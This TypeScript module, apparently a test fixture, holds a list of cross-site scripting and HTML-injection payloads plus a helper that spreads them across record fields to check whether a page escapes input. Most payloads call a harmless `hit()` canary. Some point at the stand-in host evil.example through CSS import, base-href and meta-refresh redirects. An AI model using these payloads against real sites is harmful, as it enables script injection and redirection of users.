/**
 * Texts that run if a page takes text for markup; each calls `hit()` or opens a dialog. They are
 * short, so that none is truncated to something harmless.
 */
export const payloads = [
  '<script>hit()</script>',
  '<img src=x onerror=hit()>',
  '"><svg onload=hit()>',
  "'><body onload=hit()>",
  '</script><script>hit()</script>',
  '</title><script>alert(1)</script>',
  '<iframe srcdoc="<script>parent.hit()</script>">',
  '<a href="javascript:hit()">x</a>',
  'javascript:hit()',
  '{{constructor.constructor("hit()")()}}',
  '${hit()}',
  '<style>@import "//evil.example";*{display:none}</style>',
  '<base href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '\u2028</script><!--<script>hit()',
  '&lt;script&gt;hit()&lt;/script&gt;',
] as const;

/**
 * Puts a different payload into each field of a record; `shift` rotates them for the next record.
 */
export const spread = (fields: readonly string[], shift: number): Record<string, string> =>
  Object.fromEntries(
    fields.map((name, index) => [name, payloads[(index + shift) % payloads.length] ?? payloads[0]]),
  );
